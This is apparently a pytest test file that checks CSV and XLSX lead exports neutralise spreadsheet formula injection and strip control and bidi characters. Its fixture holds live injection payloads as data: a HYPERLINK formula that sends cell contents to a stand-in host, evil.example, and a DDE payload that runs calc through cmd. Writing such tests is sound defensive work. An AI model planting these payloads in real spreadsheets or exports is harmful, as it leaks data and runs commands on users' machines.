"""Exports never run an outsider's text as a formula and never fail on stored text (CSV and XLSX)."""

from __future__ import annotations

import csv
import io
import json

import pytest
import sqlalchemy as sa

from shared.config import Settings
from shared.core.inputs import InputRow, from_values
from shared.core.models import ScanRecord, ScanStatus
from shared.core.results import ScanResult
from shared.core.scoring import score_record
from shared.core.spreadsheet import csv_cell, neutral_text
from shared.http.dispatch import dispatch
from shared.http.types import HttpRequest
from shared.runtime import Runtime
from shared.store.models import DomainRow

HOSTILE = {
    "a1.com.tr": '=HYPERLINK("http://evil.example/?"&A1,"ok")',
    "a2.com.tr": "+cmd|' /C calc'!A0",
    "a3.com.tr": "-2+3",
    "a4.com.tr": "@SUM(1+1)",
    "a5.com.tr": "\tTab Başlangıç",
    "a6.com.tr": "Şirket\x01 A.Ş.",
}


@pytest.fixture
def runtime(tmp_path):
    runtime = Runtime(Settings(database_url=f"sqlite:///{tmp_path / 'hunter.db'}"))
    results = []
    for domain in HOSTILE:
        record = ScanRecord(input=domain, domain=domain, status=ScanStatus.NO_MX)
        results.append(ScanResult(record, score_record(record), company_name="placeholder"))
    runtime.leads.save(results)
    # Text stored by an earlier version, before input cleaning: exactly what an attacker sent.
    with runtime.engine.begin() as connection:
        for domain, name in HOSTILE.items():
            connection.execute(sa.update(DomainRow).where(DomainRow.name == domain).values(company_name=name))
    yield runtime
    runtime.engine.dispose()


def export(runtime: Runtime, fmt: str) -> bytes:
    key = runtime.keys.create(f"reader-{fmt}", ["read"])[0]
    request = HttpRequest("GET", "/v1/leads/export", query={"format": [fmt]}, headers={"x-api-key": key})
    response = dispatch(request, runtime)
    assert response.status == 200, response.body_bytes()
    return response.body_bytes()


def test_csv_cells_never_start_a_formula(runtime):
    text = export(runtime, "csv").decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    names = {row["domain"]: row["company_name"] for row in rows}
    for domain in HOSTILE:
        assert not names[domain].startswith(("=", "+", "-", "@", "\t", "\r")), names[domain]
        assert "\x01" not in names[domain]
    assert names["a1.com.tr"] == "'" + HOSTILE["a1.com.tr"]
    assert names["a3.com.tr"] == "'-2+3"
    assert all(row["score"].lstrip("-").isdigit() for row in rows)  # numbers stay numbers


def test_xlsx_text_cells_are_strings_and_control_characters_do_not_break_it(runtime):
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(export(runtime, "xlsx"))).active
    header = [cell.value for cell in sheet[1]]
    company, score = header.index("company_name"), header.index("score")
    seen = {}
    for row in sheet.iter_rows(min_row=2):
        cell = row[company]
        assert cell.data_type == "s", (cell.value, cell.data_type)  # never "f" (a live formula)
        assert isinstance(row[score].value, int)
        seen[row[0].value] = cell.value
    assert seen["a1.com.tr"] == HOSTILE["a1.com.tr"]  # shown as typed, as text
    assert seen["a6.com.tr"] == "Şirket  A.Ş."


def test_input_cleaning_strips_control_and_bidi_characters():
    row = InputRow("x.com.tr", "  Evil\u202eCorp\x00 \r\n Ltd ")
    assert row.company == "Evil Corp Ltd"
    assert [r.company for r in from_values(["x.com.tr"])] == [None]
    assert InputRow("x.com.tr", "\x01\x02").company is None


@pytest.mark.parametrize("text", [*HOSTILE.values(), "\r=1", "\n=1", "Normal Ltd", "", "'quoted"])
def test_neutral_text_property(text):
    out = neutral_text(text)
    assert not out.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    assert not any(ord(ch) < 32 for ch in out)
    assert json.dumps(csv_cell(text))  # always a plain string
